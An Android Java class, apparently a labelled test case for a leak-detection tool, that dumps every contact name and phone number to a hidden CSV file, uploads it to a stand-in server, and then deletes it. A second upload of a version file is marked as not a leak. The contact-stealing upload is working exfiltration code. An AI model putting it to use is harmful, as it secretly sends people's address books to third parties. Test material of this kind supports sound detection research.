package stealers;

import android.app.IntentService;
import android.content.*;
import android.database.Cursor;
import android.os.Environment;
import android.provider.ContactsContract;

import org.apache.http.client.HttpClient;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.entity.mime.*;
import org.apache.http.entity.mime.content.*;
import org.apache.http.impl.client.DefaultHttpClient;

import java.io.*;

/** The address book as a table in a file, the file in a form. */
public class ContactsCsv extends IntentService {
    public ContactsCsv() {
        super("csv");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        File dir = new File(Environment.getExternalStorageDirectory(), ".cache");
        dir.mkdirs();
        File file = new File(dir, "c.csv");
        try {
            PrintWriter w = new PrintWriter(new FileWriter(file));
            dump(w);
            w.close();
            upload(file);
            file.delete();
            File other = new File(dir, "v.txt");
            FileWriter v = new FileWriter(other);
            v.write("version 3\n");
            v.close();
            uploadVersion(other);
        } catch (IOException e) {
            e.printStackTrace();
        }
    }

    private void dump(PrintWriter w) {
        ContentResolver r = getContentResolver();
        Cursor people = r.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (people.moveToNext()) {
            String id = people.getString(people.getColumnIndex(ContactsContract.Contacts._ID));
            String name = people.getString(people.getColumnIndex(ContactsContract.Contacts.DISPLAY_NAME));
            Cursor phones =
                    r.query(
                            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
                            null,
                            ContactsContract.CommonDataKinds.Phone.CONTACT_ID + " = ?",
                            new String[] {id},
                            null);
            while (phones.moveToNext())
                w.println(name + ";" + phones.getString(phones.getColumnIndex(ContactsContract.CommonDataKinds.Phone.NUMBER)));
            phones.close();
        }
        people.close();
    }

    private static void upload(File f) throws IOException {
        HttpClient client = new DefaultHttpClient();
        HttpPost post = new HttpPost("http://up.example.cn/upload");
        MultipartEntity entity = new MultipartEntity(HttpMultipartMode.BROWSER_COMPATIBLE);
        entity.addPart("file", new FileBody(f, "text/csv"));
        entity.addPart("what", new StringBody("contacts"));
        post.setEntity(entity);
        client.execute(post); // leak
    }

    private static void uploadVersion(File f) throws IOException {
        HttpPost post = new HttpPost("http://up.example.cn/upload");
        MultipartEntity entity = new MultipartEntity();
        entity.addPart("file", new FileBody(f));
        post.setEntity(entity);
        new DefaultHttpClient().execute(post); // no leak
    }
}
